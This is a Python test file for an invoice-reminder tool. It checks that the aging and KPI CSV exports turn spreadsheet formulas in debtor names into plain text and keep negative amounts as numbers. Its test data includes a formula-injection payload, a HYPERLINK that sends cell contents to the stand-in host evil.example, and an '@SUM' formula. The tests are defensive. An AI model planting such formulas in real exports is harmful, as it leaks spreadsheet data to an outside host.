"""Formulas in the CSV exports of the reports: a debtor named like a spreadsheet formula
is written as text (a leading quote), never run; negative amounts stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

from click.testing import CliRunner

from relance_docs.cli import cli
from relance_docs.intake import load_creditor
from relance_docs.model import DocumentKind, Invoice, Ledger, Party
from relance_docs.reports.aging import aged_balance, aging_csv
from relance_docs.store.db import connect, transaction
from relance_docs.store.events import REMINDER_GENERATED, record
from relance_docs.store.importer import creditor_key, import_ledger

from ..conftest import SAMPLES

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def ledger() -> Ledger:
    return Ledger(
        (Party("@SUM(1+1)", HOSTILE), Party("D2", "+33 Bêta")),
        (
            Invoice("F1", "@SUM(1+1)", date(2026, 9, 1), date(2026, 10, 1), Decimal("100")),
            Invoice("AV1", "D2", date(2026, 9, 1), date(2026, 9, 1), Decimal("-50"),
                    kind=DocumentKind.CREDIT_NOTE),
        ),
    )  # fmt: skip


def test_the_aging_csv_neutralises_formulas_and_keeps_negative_amounts():
    rows = list(csv.DictReader(io.StringIO(aging_csv(aged_balance(ledger(), date(2026, 11, 1))))))
    by_id = {r["debtor_id"]: r for r in rows}
    assert by_id["'@SUM(1+1)"]["debtor"] == "'" + HOSTILE
    assert by_id["D2"]["debtor"] == "'+33 Bêta"
    assert by_id["D2"]["unallocated_credits"] == "-50.00"  # a number, left alone
    assert by_id["D2"]["total"] == "-50.00"


def test_the_kpi_csv_neutralises_formulas(tmp_path):
    db = tmp_path / "relance.db"
    conn = connect(db)
    profile = load_creditor(SAMPLES / "creditor-fr.yaml")
    import_ledger(conn, ledger(), profile, datetime(2026, 10, 2, 12, tzinfo=UTC))
    with transaction(conn):
        record(conn, REMINDER_GENERATED, creditor=creditor_key(profile), debtor_id="@SUM(1+1)",
               at=datetime(2026, 10, 5, 12, tzinfo=UTC),
               data={"step": "first", "total": "100.00", "overdue": "100.00",
                     "invoices": ["F1"]}, rules_version="test")  # fmt: skip
    conn.close()
    result = CliRunner().invoke(
        cli, ["kpi", "--db", str(db), "--as-of", "2026-11-01", "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert [(r["debtor_id"], r["debtor"], r["reminded"]) for r in rows] == [
        ("'@SUM(1+1)", "'" + HOSTILE, "100.00")
    ]
